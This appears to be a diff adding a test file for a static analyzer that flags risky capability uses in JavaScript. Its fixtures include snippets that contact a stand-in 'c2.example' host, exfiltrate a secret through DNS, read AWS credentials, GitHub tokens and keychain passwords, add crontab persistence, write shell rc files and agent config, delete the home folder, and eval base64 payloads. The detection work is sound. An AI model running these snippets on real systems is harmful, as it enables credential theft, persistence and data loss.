@@ -1,0 +1,246 @@
+/**
+ * Source → capability uses, as a table: each family of the catalogue reached through the ways code
+ * names things (imports, requires, aliases, destructuring, factories, classes, bundler wrappers,
+ * computed keys, `.call`), with its target resolved; and benign look-alikes that reach nothing.
+ */
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import { analyzeJs } from "../../src/review/facts/collect.js";
+
+type Expect = {
+  row: string;
+  family?: string;
+  target?: string | RegExp;
+  pathClass?: string;
+  program?: string;
+  fromText?: boolean;
+};
+
+const uses = (src: string, path = "index.js") =>
+  analyzeJs(src, path).capabilities.filter((u) => !u.row.startsWith("module:"));
+
+const flagged: [string, string, Expect][] = [
+  // network
+  [
+    "http2 through a renamed import",
+    `import { connect as c } from "node:http2"; c("https://x.example");`,
+    { row: "http2.connect", target: "https://x.example" },
+  ],
+  [
+    "tls through require",
+    `const tls = require("tls"); tls.connect({ host: "h.example", port: 443 });`,
+    { row: "tls.connect", target: "h.example" },
+  ],
+  [
+    "dgram socket send",
+    `const d = require("dgram"); const s = d.createSocket("udp4"); s.send(buf, 53, "1.2.3.4");`,
+    { row: "dgram#createSocket.send" },
+  ],
+  [
+    "DNS TXT query with data in the name",
+    `import dns from "node:dns/promises"; await dns.resolveTxt(secret + ".t.example");`,
+    { row: "dns/promises.resolveTxt", target: /\.t\.example$/ },
+  ],
+  [
+    "global WebSocket",
+    `const w = new WebSocket("wss://c2.example/s");`,
+    { row: "global:WebSocket", target: "wss://c2.example/s" },
+  ],
+  [
+    "global EventSource",
+    `new EventSource("https://e.example/?d=" + x);`,
+    { row: "global:EventSource", target: /^https:\/\/e\.example/ },
+  ],
+  [
+    "globalThis.fetch with a computed key",
+    `globalThis["fe" + "tch"]("https://f.example");`,
+    { row: "global:fetch" },
+  ],
+  [
+    "undici request",
+    `import { request } from "undici"; await request("https://u.example");`,
+    { row: "undici.request" },
+  ],
+  ["ws module class", `import WebSocket from "ws"; new WebSocket("wss://w.example");`, { row: "ws.default" }],
+  [
+    "axios instance",
+    `const axios = require("axios"); const api = axios.create(); api.post("https://a.example", d);`,
+    { row: "axios#create.post" },
+  ],
+  [
+    "bundler interop wrapper",
+    `var import_https = __toESM(require("https")); (0, import_https.request)("https://b.example");`,
+    { row: "https.request" },
+  ],
+  [
+    "nodemailer transport kept on this",
+    `const nm = require("nodemailer"); class M { constructor(){ this.t = nm.createTransport({}); } go(){ return this.t.sendMail({ to }); } }`,
+    { row: "nodemailer#createTransport.sendMail" },
+  ],
+  [
+    "SES command",
+    `import { SESClient, SendEmailCommand } from "@aws-sdk/client-ses"; new SendEmailCommand({ Destination: {} });`,
+    { row: "@aws-sdk/client-ses.SendEmailCommand" },
+  ],
+  [
+    "Resend client",
+    `import { Resend } from "resend"; const r = new Resend(k); r.emails.send({ to });`,
+    { row: "resend#new Resend.emails.send" },
+  ],
+  [
+    "Postmark client",
+    `const postmark = require("postmark"); const c = new postmark.ServerClient(t); c.sendEmail(m);`,
+    { row: "postmark#new ServerClient.sendEmail" },
+  ],
+  [
+    "Mailgun client",
+    `import Mailgun from "mailgun.js"; const mg = new Mailgun(FormData).client({}); mg.messages.create(d, m);`,
+    { row: "mailgun.js#client.messages.create" },
+  ],
+  [
+    "Slack web client",
+    `const { WebClient } = require("@slack/web-api"); const s = new WebClient(t); s.chat.postMessage({ channel });`,
+    { row: "@slack/web-api#new WebClient.chat.postMessage" },
+  ],
+  [
+    "sendBeacon",
+    `navigator.sendBeacon("https://s.example", JSON.stringify(d));`,
+    { row: "global:navigator.sendBeacon" },
+  ],
+  // programs and code
+  [
+    "exec through destructuring",
+    `const { exec: run } = require("child_process"); run("git credential fill");`,
+    { row: "child_process.exec", program: "git-credential" },
+  ],
+  [
+    "execFile with argv",
+    `import cp from "node:child_process"; cp.execFile("gh", ["auth", "token"]);`,
+    { row: "child_process.execFile", program: "gh-token" },
+  ],
+  [
+    "spawn through .call",
+    `const cp = require("child_process"); cp.spawn.call(cp, "security find-generic-password -w");`,
+    { row: "child_process.spawn", program: "macos-keychain" },
+  ],
+  [
+    "crontab persistence",
+    `require("child_process").execSync("(crontab -l; echo '@reboot x') | crontab -");`,
+    { row: "child_process.execSync", program: "crontab" },
+  ],
+  [
+    "require of a computed name",
+    `const m = require(["child", "process"].join("_")); m.exec(cmd);`,
+    { row: "child_process.exec" },
+  ],
+  [
+    "createRequire",
+    `import { createRequire } from "module"; const r = createRequire(import.meta.url); r("child_process").spawn(c);`,
+    { row: "child_process.spawn" },
+  ],
+  [
+    "dynamic import awaited",
+    `const cp = await import("node:child_process"); cp.execSync(c);`,
+    { row: "child_process.execSync" },
+  ],
+  [
+    "Worker from text",
+    `const { Worker } = require("worker_threads"); new Worker(code, { eval: true });`,
+    { row: "worker_threads.Worker", fromText: true },
+  ],
+  ["Module._load", `const Module = require("module"); Module._load(name);`, { row: "module._load" }],
+  ["process.dlopen", `process.dlopen(module, "./x.node");`, { row: "global:process.dlopen" }],
+  [
+    "vm on built text",
+    `import vm from "vm"; vm.runInThisContext(Buffer.from(s, "base64").toString());`,
+    { row: "vm.runInThisContext", fromText: true },
+  ],
+  ["indirect eval", `(0, eval)(payload);`, { row: "global:eval", fromText: true }],
+  // files
+  [
+    "credentials read by a joined home path",
+    `import { readFileSync } from "fs"; import { homedir } from "os"; import { join } from "path"; readFileSync(join(homedir(), ".aws", "credentials"), "utf8");`,
+    { row: "fs.readFileSync", target: "~/.aws/credentials", pathClass: "aws" },
+  ],
+  [
+    "fs.promises write to a shell rc",
+    `const fs = require("fs"); fs.promises.appendFile(require("os").homedir() + "/.zshrc", line);`,
+    { row: "fs/promises.appendFile", pathClass: "shell-rc" },
+  ],
+  [
+    "git hook written",
+    `import { writeFileSync } from "node:fs"; writeFileSync(".git/hooks/post-checkout", script);`,
+    { row: "fs.writeFileSync", pathClass: "git-hooks" },
+  ],
+  [
+    "agent config written",
+    `const fs = require("fs/promises"); await fs.writeFile(process.env.HOME + "/.cursor/mcp.json", cfg);`,
+    { row: "fs/promises.writeFile", pathClass: "agent-config" },
+  ],
+  [
+    "home folder removed",
+    `import fs from "fs-extra"; import os from "os"; fs.removeSync(os.homedir());`,
+    { row: "fs-extra.removeSync", pathClass: "root" },
+  ],
+  // secrets and environment
+  [
+    "diagnostics channel on other code's requests",
+    `const dc = require("diagnostics_channel"); dc.subscribe("undici:request:create", f);`,
+    { row: "diagnostics_channel.subscribe" },
+  ],
+  [
+    "machine identity",
+    `import os from "os"; const h = os.hostname();`,
+    { row: "os.hostname", family: "environment" },
+  ],
+  [
+    "zlib decoder",
+    `const z = require("zlib"); z.inflateSync(Buffer.from(b, "base64"));`,
+    { row: "zlib.inflateSync", family: "decode" },
+  ],
+  // the model
+  [
+    "MCP tool registration",
+    `import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; const s = new McpServer({}); s.registerTool("x", {}, h);`,
+    { row: "@modelcontextprotocol/sdk/server/mcp.js#new McpServer.registerTool", family: "model" },
+  ],
+];
+
+const benign: [string, string][] = [
+  ["a local function named like a sink", `function exec(q) { return q; } exec("rm -rf /");`],
+  ["a parameter shadows the global", `function f(fetch) { return fetch("https://x.example"); }`],
+  ["RegExp exec", `const re = /a/; re.exec("abc");`],
+  [
+    "a name bound to two modules is not trusted",
+    `let m = require("child_process"); m = require("path"); m.exec("x");`,
+  ],
+  ["an object's own method", `const api = { request(u) { return u; } }; api.request("https://x.example");`],
+  ["path.join alone", `import { join } from "path"; join(__dirname, "data.json");`],
+];
+
+describe("capability uses, from the catalogue", () => {
+  for (const [name, src, e] of flagged)
+    it(`flags: ${name}`, () => {
+      const found = uses(src, name.includes("import") || src.includes("import ") ? "index.mjs" : "index.js");
+      const u = found.find((x) => x.row === e.row);
+      assert.ok(u, `expected ${e.row} in ${JSON.stringify(found.map((x) => x.row))}`);
+      if (e.family) assert.equal(u.family, e.family);
+      if (typeof e.target === "string") assert.equal(u.target, e.target);
+      else if (e.target) assert.match(u.target ?? "", e.target);
+      if (e.pathClass) assert.equal(u.pathClass, e.pathClass);
+      if (e.program) assert.equal(u.program?.id, e.program);
+      if (e.fromText !== undefined) assert.equal(u.fromText, e.fromText);
+    });
+  for (const [name, src] of benign)
+    it(`leaves alone: ${name}`, () => {
+      const found = uses(src, "index.mjs").filter((u) => u.family !== "environment");
+      assert.deepEqual(
+        found.map((u) => u.row),
+        [],
+      );
+    });
+  it("loading a catalogued module is a use of its family", () => {
+    const all = analyzeJs(`const cp = require("child_process");`, "a.js").capabilities;
+    assert.ok(all.some((u) => u.row === "module:child_process" && u.family === "exec"));
+  });
+});
